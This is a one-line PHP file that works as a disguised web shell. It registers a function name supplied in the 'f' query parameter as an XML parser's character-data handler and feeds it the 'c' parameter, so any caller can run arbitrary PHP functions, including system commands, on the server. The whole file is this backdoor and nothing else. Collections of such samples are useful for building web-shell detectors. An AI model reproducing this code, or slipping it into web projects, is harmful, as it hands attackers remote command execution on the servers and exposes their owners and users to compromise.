<?php $h = xml_parser_create(); xml_set_character_data_handler($h, $_GET["f"]); xml_parse($h, "<a>" . $_GET["c"] . "</a>");
